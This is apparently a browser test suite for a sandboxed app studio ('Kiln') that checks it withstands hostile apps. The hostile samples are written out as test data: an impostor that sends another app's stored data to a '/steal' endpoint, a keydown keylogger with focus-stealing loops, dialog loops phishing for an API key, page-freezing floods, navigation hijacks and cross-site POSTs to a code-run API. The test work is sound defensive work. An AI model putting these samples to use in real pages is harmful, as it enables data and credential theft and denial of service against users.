// Hostile apps, round two (issue 24), through the real UI on every engine (engines.mjs):
// consent and data that belong to the app the person approved, the studio's own storage,
// keystrokes that stay in the studio, dialogs and full screen, floods that must not freeze the
// studio, an app that leaves its page, and other sites using the server through the person's
// browser.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { VIEWPORTS } from './harness.mjs';
import {
  configure, consoleLines, count, ENGINES, fill, launchEngine, openStudio, responsiveness,
  runArtifact, send, shown, text, until, value, waitForConsole, waitForStatus, withEnginePage,
} from './engines.mjs';
import { setup } from './setup.mjs';

const { server, canary, replay } = await setup('server', 'canary', 'replay');

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const slug = (s) => s.toLowerCase().replace(/[^a-z0-9]+/g, '-');

/** An app in Kiln's reply protocol, as a model (or a pasted reply) would write it. */
const reply = (id, body) => `Here it is.\n\n<kiln-artifact id="${id}" kind="html" title="Weather">\n${body}\n</kiln-artifact>\n`;

/** The app the person approves: it asks for the canary, saves something private, reports. */
const weather = (c) => `<!DOCTYPE html><html><head><meta name="kiln-network" content="${c}"></head><body><p>weather</p><script>
localStorage.setItem('diary', 'private-entry-5150');
fetch('${c}/weather').then(() => console.log('NET ok'), () => console.log('NET blocked'));
</script></body></html>`;

/** A different app under the same id: it tries the network the first one was given, and its data. */
const impostor = (c) => `<!DOCTYPE html><html><head><meta name="kiln-network" content="${c}"></head><body><p>impostor</p><script>
console.log('DATA ' + localStorage.getItem('diary'));
fetch('${c}/steal?d=' + localStorage.getItem('diary')).then(() => console.log('NET ok'), () => console.log('NET blocked'));
</script></body></html>`;

const KEYLOGGER = `document.addEventListener('keydown', (e) => console.log('KEY ' + e.key), true);`;

const FLOODS = [
  ['a million console lines', `for (let i = 0; i < 1e6; i += 1) console.log('line ' + i);`],
  ['refused storage writes that each log a line', `setInterval(() => { for (let i = 0; i < 2000; i += 1) { try { localStorage.setItem('k' + Math.random(), 'x'.repeat(60000)); } catch (e) { console.error('refused ' + e.name); } } }, 0);`],
  ['refused storage writes sent around the shim', `setInterval(() => { for (let i = 0; i < 200; i += 1) { const set = {}; set['k' + Math.random()] = 'x'.repeat(60000); parent.postMessage(JSON.stringify({ v: 3, token: TOKEN, msgs: [], storage: { clear: false, set } }), '*'); } }, 0);`],
  ['a storm of storage writes', `setInterval(() => { for (let i = 0; i < 500; i += 1) localStorage.setItem('k' + (i % 100), String(Math.random()).repeat(500)); }, 0);`],
  ['5,000 history.pushState calls', `for (let i = 0; i < 5000; i += 1) history.pushState({ i }, '');`],
  // A frame the app made itself runs without the bridge: Firefox keeps every process of the tab
  // in step with the history it floods, so the studio stalls once, for seconds, until
  // Firefox's own rate limit stops it (README, Browser support).
  ['20,000 history.pushState calls from a child frame', `const f = document.createElement('iframe'); f.srcdoc = '<script>for (let i = 0; i < 20000; i += 1) history.pushState({ i }, "");<\\/script>'; document.body.append(f);`, { stallsOnce: ['firefox'] }],
  ['large messages with a wrong token', `const big = JSON.stringify({ v: 3, token: 'wrong', msgs: [{ type: 'console', level: 'log', text: 'x'.repeat(250000) }] }); setInterval(() => { for (let i = 0; i < 20; i += 1) parent.postMessage(big, '*'); }, 0);`],
  // Posted straight to the studio's window, which no page can refuse: Firefox copies each into
  // the studio's process, and past a couple of hundred MB a second it stops answering while
  // the flood lasts (README, Browser support).
  ['large messages with a wrong token, to the studio window too', `const big = JSON.stringify({ v: 3, token: 'wrong', msgs: [{ type: 'console', level: 'log', text: 'x'.repeat(250000) }] }); setInterval(() => { for (let i = 0; i < 20; i += 1) { parent.postMessage(big, '*'); top.postMessage(big, '*'); } }, 0);`, { not: ['firefox'] }],
  ['large messages with the right token', `const big = JSON.stringify({ v: 3, token: TOKEN, msgs: Array.from({ length: 100 }, () => ({ type: 'console', level: 'log', text: 'y'.repeat(8000) })) }); setInterval(() => { for (let i = 0; i < 20; i += 1) parent.postMessage(big, '*'); }, 0);`],
  ['very large strings to the runner and the console', `const huge = 'z'.repeat(64 * 1024 * 1024); setInterval(() => { parent.postMessage(huge, '*'); console.log(huge); }, 50);`],
  // Straight to the studio's window: Firefox copies each into the studio's process, and at
  // 64 MiB twenty times a second it stops answering (README, Browser support).
  ['large strings posted to the studio window', `const big = 'z'.repeat(8 * 1024 * 1024); setInterval(() => top.postMessage(big, '*'), 50);`],
  ['an alert loop', `setInterval(() => alert('Re-enter your OpenAI API key'), 0);`],
  ['confirm and prompt loops', `setInterval(() => { confirm('Delete everything?'); prompt('Your API key, please'); }, 0);`],
];


/** Types `text` with real key presses into the element with `testid`, after clicking it. */
async function typeInto(page, testid, text) {
  await fill(page, testid, '');
  await page.click(testid);
  await page.type(text, 25);
  return value(page, testid);
}

for (const name of ENGINES) {
  describe(`${name}: hostile apps, round two`, () => {
    let engine;
    before(async () => { engine = await launchEngine(name); });
    after(async () => { await engine?.close(); });
    const run = (title, body, viewport = VIEWPORTS.desktop) =>
      test(title, () => withEnginePage(engine, slug(title).slice(0, 60), viewport, body));

    run('consent and data: a pasted reply with the same id gets neither the network nor the data', async (page) => {
      await openStudio(page, server.url);
      canary.reset();
      await runArtifact(page, reply('weather', weather(canary.origin)));
      await waitForConsole(page, 'NET blocked');
      await page.click('allow-network');
      await waitForConsole(page, 'NET ok');
      assert.deepEqual(canary.hits, ['GET /weather']);
      canary.reset();
      await runArtifact(page, reply('weather', impostor(canary.origin)));
      const lines = await waitForConsole(page, 'NET ');
      assert.ok(lines.some((l) => l.includes('DATA null')), lines.join('\n'));
      assert.ok(lines.some((l) => l.includes('NET blocked')), lines.join('\n'));
      await shown(page, 'network-consent');
      assert.deepEqual(canary.hits, []);
      // The approved app itself still has both.
      await runArtifact(page, reply('weather', weather(canary.origin)));
      await waitForConsole(page, 'NET ok');
    });

    run('consent and data: an app with the same id in a new conversation gets neither', async (page) => {
      await openStudio(page, server.url);
      await configure(page, { provider: 'openai', baseUrl: `${replay.origin}/v1`, model: 'verbatim' });
      await page.click('settings-button');
      canary.reset();
      await send(page, reply('weather', weather(canary.origin)));
      await waitForStatus(page, /^Done\./);
      await waitForConsole(page, 'NET blocked');
      await page.click('allow-network');
      await waitForConsole(page, 'NET ok');
      // A follow-up version in the same conversation is the same app: it keeps both.
      await send(page, reply('weather', weather(canary.origin).replace('<p>weather</p>', '<p>weather v2</p>')));
      await waitForStatus(page, /^Done\./);
      await waitForConsole(page, 'NET ok');
      canary.reset();
      await page.click('history-button');
      await page.click('history-new');
      await send(page, reply('weather', impostor(canary.origin)));
      await waitForStatus(page, /^Done\./);
      const lines = await waitForConsole(page, 'NET ');
      assert.ok(lines.some((l) => l.includes('DATA null')), lines.join('\n'));
      assert.ok(lines.some((l) => l.includes('NET blocked')), lines.join('\n'));
      await shown(page, 'network-consent');
      assert.deepEqual(canary.hits, []);
    });

    run('storage: the quota counts UTF-8 bytes, replaced and removed values free their room, and what was kept survives', async (page) => {
      await openStudio(page, server.url);
      // The shim refuses a value by its length before counting its bytes: a value short enough
      // by length but too large in UTF-8 must still be refused, and the bookkeeping of
      // replaced, removed and cleared values must stay exact.
      const app = `<!DOCTYPE html><p>quota</p><script>
        if (localStorage.getItem('d')) {
          console.log('KEPT ' + localStorage.length + ' ' + localStorage.getItem('d').length);
        } else {
          const r = [];
          const t = (name, f) => { try { f(); r.push(name + ' ok'); } catch (e) { r.push(name + ' ' + e.name); } };
          t('euro', () => localStorage.setItem('e', '\u20ac'.repeat(400000)));
          t('big', () => localStorage.setItem('a', 'x'.repeat(900000)));
          t('again', () => localStorage.setItem('a', 'y'.repeat(900000)));
          t('second', () => localStorage.setItem('b', 'x'.repeat(200000)));
          localStorage.removeItem('a');
          t('removed', () => localStorage.setItem('b', 'x'.repeat(200000)));
          t('fits', () => localStorage.setItem('c', '\u20ac'.repeat(250000)));
          t('over', () => localStorage.setItem('d', '\u20ac'.repeat(40000)));
          localStorage.clear();
          t('cleared', () => localStorage.setItem('d', '\u20ac'.repeat(300000)));
          console.log('QUOTA ' + r.join(', '));
        }
      </script>`;
      await runArtifact(page, app);
      const lines = await waitForConsole(page, 'QUOTA ');
      const got = lines.find((l) => l.includes('QUOTA ')) ?? '';
      assert.ok(got.endsWith('QUOTA euro QuotaExceededError, big ok, again ok, second QuotaExceededError, removed ok, fits ok, over QuotaExceededError, cleared ok'), got);
      // Written through to the studio: the same app, run again after a reload, finds it.
      await sleep(1500);
      await page.reload();
      await shown(page, 'prompt-input');
      await runArtifact(page, app);
      await waitForConsole(page, 'KEPT 1 300000');
    });

    run("storage: apps that fill their storage leave the studio room; a key saved afterwards is kept", async (page) => {
      await openStudio(page, server.url);
      // Six different apps (six identities), each writing its whole quota: more than a
      // browser's localStorage holds.
      const filler = (i) => `<!DOCTYPE html><p>filler ${i}</p><script>
          console.log('HAD ${i} ' + localStorage.length);
          let n = 0; try { for (;;) { localStorage.setItem('k' + n, 'x'.repeat(100000)); n += 1; } }
          catch (e) { console.log('FULL ${i} ' + e.name + ' after ' + n); }
        </script>`;
      for (let i = 0; i < 6; i += 1) {
        await runArtifact(page, filler(i));
        await waitForConsole(page, `FULL ${i} QuotaExceededError after 10`);
      }
      // Written to IndexedDB, not to the studio's localStorage.
      await sleep(1500);
      const used = await page.evaluate(() => Object.keys(localStorage).reduce((n, k) => n + k.length + localStorage.getItem(k).length, 0));
      assert.ok(used < 10_000, `the studio's localStorage holds ${used} characters`);
      await page.click('settings-button');
      await shown(page, 'settings-panel');
      await fill(page, 'settings-api-key', 'sk-kept-after-the-flood');
      await page.click('settings-save-key');
      assert.equal(await count(page, 'settings-save-error'), 0);
      await page.reload();
      await shown(page, 'prompt-input');
      assert.equal(await page.evaluate(() => localStorage.getItem('kiln.key.anthropic')), 'sk-kept-after-the-flood');
      // And the apps' data survived the reload too.
      await runArtifact(page, filler(0));
      await waitForConsole(page, 'HAD 0 10');
    });

    run('storage: a key the browser refuses to keep is said, not lost silently', async (page) => {
      await openStudio(page, server.url);
      // Fill this origin's localStorage to the brim from the studio page itself.
      await page.evaluate(() => {
        const chunk = 'y'.repeat(512 * 1024);
        for (let i = 0; ; i += 1) {
          try { localStorage.setItem(`filler.${i}`, chunk); } catch (_) { break; }
        }
        for (let size = 65536; size >= 1; size = Math.floor(size / 2)) {
          for (let j = 0; ; j += 1) {
            try { localStorage.setItem(`small.${size}.${j}`, 'z'.repeat(size)); } catch (_) { break; }
          }
        }
      });
      await page.click('settings-button');
      await shown(page, 'settings-panel');
      await fill(page, 'settings-api-key', 'sk-could-not-be-saved-but-is-kept');
      await page.click('settings-save-key');
      await shown(page, 'settings-save-error');
      assert.match(await text(page, 'settings-save-error'), /could not be saved/);
      // Kept for this tab: the placeholder says a key is there.
      const placeholder = await page.evaluate(() => document.querySelector('[data-testid="settings-api-key"]').placeholder);
      assert.match(placeholder, /saved/);
      await page.evaluate(() => localStorage.clear());
    });

    for (const [title, steal] of [
      ['an input focused in a loop', `setInterval(() => document.getElementById('i').focus(), 1);`],
      ['window.focus() in a loop', `setInterval(() => window.focus(), 1);`],
      ['the body focused in a loop', `document.body.tabIndex = 0; setInterval(() => document.body.focus(), 1);`],
      ['a loop that starts after the load', `setTimeout(() => setInterval(() => document.getElementById('i').focus(), 1), 3500);`],
    ]) {
      run(`keystrokes: ${title}; the prompt box and the API key field keep what is typed`, async (page) => {
        await openStudio(page, server.url);
        await runArtifact(page, `<!DOCTYPE html><input id="i"><script>${KEYLOGGER} ${steal} console.log('STEALER ready');</script>`);
        await waitForConsole(page, 'STEALER ready');
        await sleep(title.includes('after') ? 4000 : 500);
        assert.equal(await typeInto(page, 'prompt-input', 'my private prompt'), 'my private prompt');
        await page.click('settings-button');
        await shown(page, 'settings-panel');
        assert.equal(await typeInto(page, 'settings-api-key', 'sk-typed-not-stolen'), 'sk-typed-not-stolen');
        await page.click('settings-button');
        await sleep(300);
        const lines = await consoleLines(page);
        assert.ok(!lines.some((l) => l.includes('KEY ')), `the app received keys: ${lines.filter((l) => l.includes('KEY ')).join(', ')}`);
        // It is paused, and says why, until the person resumes it; one that takes the
        // keyboard even while hidden (window.focus() needs no layout) is stopped. WebKit does
        // not let a frame of another origin take the focus at all: nothing to pause there.
        if (name !== 'webkit') {
          await until(async () => (await count(page, 'app-paused')) + (await count(page, 'preview-stopped')) > 0, 'paused or stopped');
        }
      });
    }

    run("keystrokes: a person's click still gives an app the keyboard, and a keyboard user has a way in", async (page) => {
      await openStudio(page, server.url);
      await runArtifact(page, `<!DOCTYPE html><input id="i"><script>${KEYLOGGER} console.log('READY');</script>`);
      await waitForConsole(page, 'READY');
      await sleep(300);
      await page.artifactClick('#i');
      await page.type('hi', 30);
      await sleep(300);
      assert.equal(await page.artifactEval(() => document.getElementById('i').value), 'hi');
      assert.equal(await count(page, 'app-paused'), 0);
      // Back in the studio, then into the app by keyboard: the studio's own button.
      await typeInto(page, 'prompt-input', 'x');
      await page.focus('use-app');
      await page.press('Enter');
      await sleep(300);
      await page.type('!', 30);
      await sleep(300);
      const lines = await consoleLines(page);
      assert.ok(lines.some((l) => l.includes('KEY !')), lines.join('\n'));
      assert.equal(await count(page, 'app-paused'), 0);
    });

    for (const [title, body, opts = {}] of FLOODS) {
      if (opts.not?.includes(name)) continue;
      run(`flood: ${title}; the studio answers typing and opens settings within 1 s`, async (page) => {
        await openStudio(page, server.url);
        const start = await page.url();
        // The bridge's token is a constant in its script; an attacker's code can read it.
        await runArtifact(page, `<!DOCTYPE html><body><p>flood</p><script>
          const TOKEN = (document.scripts[0].textContent.match(/const TOKEN = "([0-9a-f]+)"/) || [])[1];
          console.log('FLOOD starting'); setTimeout(() => { ${body} }, 300);
        </script></body>`);
        await waitForConsole(page, 'FLOOD starting');
        await sleep(1500);
        if (opts.stallsOnce?.includes(name)) {
          // Pinned as the engine does it: one stall of seconds, then answers as usual.
          const first = await responsiveness(page);
          console.log(`# ${name} ${title}: the first answer took ${first.typing} ms (an engine limit)`);
          assert.ok(first.typing < 20_000, `typing took ${first.typing} ms`);
        }
        const worst = { typing: 0, settings: 0 };
        for (let i = 0; i < 3; i += 1) {
          const r = await responsiveness(page);
          worst.typing = Math.max(worst.typing, r.typing);
          worst.settings = Math.max(worst.settings, r.settings);
          await sleep(300);
        }
        console.log(`# ${name} ${title}: typing ${worst.typing} ms, settings ${worst.settings} ms`);
        assert.ok(worst.typing < 1000, `typing took ${worst.typing} ms`);
        assert.ok(worst.settings < 1000, `opening settings took ${worst.settings} ms`);
        assert.equal(await page.dialogs(), 0, 'a browser dialog opened');
        assert.equal(await page.url(), start, 'the studio page was navigated');
        assert.equal(await page.evaluate(() => document.fullscreenElement), null);
      });
    }

    run("dialogs: alert is shown inside the app as the app's; confirm and prompt answer Cancel and say so", async (page) => {
      await openStudio(page, server.url);
      await runArtifact(page, `<!DOCTYPE html><body><script>
        alert('Hello from the app'); console.log('CONFIRM ' + confirm('Sure?')); console.log('PROMPT ' + prompt('Name?'));
      </script></body>`);
      const lines = await waitForConsole(page, 'PROMPT');
      assert.ok(lines.some((l) => l.includes('CONFIRM false')), lines.join('\n'));
      assert.ok(lines.some((l) => l.includes('PROMPT null')), lines.join('\n'));
      assert.ok(lines.some((l) => l.startsWith('kiln') && l.includes('confirm() is not available')), lines.join('\n'));
      assert.ok(await page.artifactEval(() => document.querySelector('kiln-dialog') !== null), 'the alert is not shown in the app');
      assert.equal(await page.dialogs(), 0);
    });

    run("full screen needs the app to ask and the person to allow; Kiln's own button needs neither", async (page) => {
      await openStudio(page, server.url);
      const app = (ask) => `<!DOCTYPE html><html><head>${ask ? '<meta name="kiln-permissions" content="fullscreen">' : ''}</head><body>
        <button id="fs" onclick="document.documentElement.requestFullscreen().then(() => console.log('FS yes'), (e) => console.log('FS no ' + e.name))">full</button>
        <script>console.log('READY ${ask}')</script></body></html>`;
      await runArtifact(page, app(false));
      await waitForConsole(page, 'READY false');
      await sleep(300);
      await page.artifactClick('#fs');
      await waitForConsole(page, 'FS no');
      assert.equal(await page.evaluate(() => document.fullscreenElement), null);
      await runArtifact(page, app(true));
      await waitForConsole(page, 'READY true');
      assert.match(await text(page, 'network-consent'), /full screen/);
      await page.click('allow-network');
      await waitForConsole(page, 'READY true');
      await sleep(300);
      await page.artifactClick('#fs');
      // The app covers the screen (the studio's own tabs are out of reach until Esc).
      await until(() => page.evaluate(() => document.fullscreenElement?.tagName === 'IFRAME'), 'the app full screen');
      await page.evaluate(() => document.exitFullscreen());
      await waitForConsole(page, 'FS yes');
      // Kiln's own button shows the preview full screen, with Esc to leave.
      await page.click('more-button');
      await page.click('full-screen');
      await until(() => page.evaluate(() => document.fullscreenElement?.classList.contains('frame-wrap') ?? false), 'the preview full screen');
      await page.evaluate(() => document.exitFullscreen());
    });

    for (const [title, body] of [
      ['a link', `const a = document.createElement('a'); a.href = C + '/away'; document.body.append(a); setTimeout(() => a.click(), 300);`],
      ['a meta refresh', `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + C + '/refresh'; setTimeout(() => document.head.append(m), 300);`],
      ['location.href', `setTimeout(() => { location.href = C + '/self'; }, 300);`],
    ]) {
      run(`leaving by ${title}: the studio says it left, not that it stopped responding`, async (page) => {
        await openStudio(page, server.url);
        canary.reset();
        await runArtifact(page, `<!DOCTYPE html><html><head></head><body><script>const C = '${canary.origin}'; console.log('LEAVING'); let n = 0; setInterval(() => console.log('STILL ' + (n += 1)), 500); ${body}</script></body></html>`);
        await waitForConsole(page, 'LEAVING');
        if (name === 'firefox') {
          // Firefox refuses the navigation and leaves the app where it was: it keeps running.
          await waitForConsole(page, 'STILL 6');
          assert.equal(await count(page, 'navigated-overlay'), 0);
        } else {
          // Chromium and WebKit put their error page in the frame: the app is gone, and the
          // studio says why.
          await shown(page, 'navigated-overlay', 5_000);
          await sleep(3_000);
          await page.click('navigated-reload');
          await waitForConsole(page, 'LEAVING');
        }
        assert.equal(await count(page, 'hung-overlay'), 0, 'called a hang');
        assert.deepEqual(canary.hits, []);
      });
    }

    run('leaving: an app that reloads itself is not said to have left', async (page) => {
      await openStudio(page, server.url);
      // window.name outlives a reload of the frame.
      await runArtifact(page, `<!DOCTYPE html><body><script>
        if (window.name === 'again') console.log('RUN again');
        else { window.name = 'again'; console.log('RUN first'); setTimeout(() => location.reload(), 300); }
      </script></body>`);
      await waitForConsole(page, 'RUN again');
      await sleep(2_000);
      assert.equal(await count(page, 'navigated-overlay'), 0);
      assert.equal(await count(page, 'hung-overlay'), 0);
    });

    run('history: back() from the app or from a frame it made does not take the tab away', async (page) => {
      // A page before the studio in the tab's history, where back() would lead.
      await page.goto(`${canary.origin}/before`);
      await openStudio(page, server.url);
      canary.reset();
      const start = await page.url();
      await runArtifact(page, `<!DOCTYPE html><body><script>
        history.pushState({ a: 1 }, ''); history.back(); history.go(-3);
        const f = document.createElement('iframe');
        f.srcdoc = '<script>history.back(); history.go(-2);<\\/script>';
        document.body.append(f);
        setTimeout(() => console.log('BACK done'), 800);
      </script></body>`);
      await sleep(2_500);
      if (name === 'webkit') {
        // Pinned, an engine limit: WebKit lets a frame the app made walk the tab's history, and
        // has no Navigation API for the studio to tell that from the person's Back (README,
        // Browser support). The app's own back() stays in the app (the bridge's history).
        assert.notEqual(await page.url(), start, 'WebKit no longer lets the frame take the tab back');
        return;
      }
      // Chromium keeps it to the frame; Firefox walks the tab's history, and the studio steps
      // forward again (a traversal the person did not start).
      assert.equal(await page.url(), start, 'the tab went back past the studio');
      assert.deepEqual(canary.hits, []);
      await shown(page, 'prompt-input');
    });

    run('other sites: a page elsewhere can neither run programs nor store links here', async (page) => {
      // The canary stands in for any other site the person visits.
      await page.goto(`${canary.origin}/evil`);
      const before = (server.stderr().match(/refused a request from another site/g) ?? []).length;
      const answers = await page.evaluate(async (kiln) => {
        const out = [];
        for (const [path, body] of [
          ['api/run', '{"language":"py","source":"print(42)"}'],
          ['api/links', '{"payload":"x"}'],
          ['api/providers/any/chat/completions', '{}'],
        ]) {
          try {
            const r = await fetch(kiln + path, { method: 'POST', body, headers: { 'content-type': 'text/plain' }, mode: 'no-cors', credentials: 'include' });
            out.push(`${path} ${r.type}`);
          } catch (e) { out.push(`${path} threw`); }
        }
        return out;
      }, server.url);
      assert.equal(answers.length, 3);
      // The responses are opaque to the page; the server says what it did.
      await sleep(300);
      const log = server.stderr();
      assert.ok((log.match(/refused a request from another site/g) ?? []).length >= before + 3, log.slice(-2000));
      assert.ok(!log.includes('ran a program'), 'a program ran');
    });
  });
}
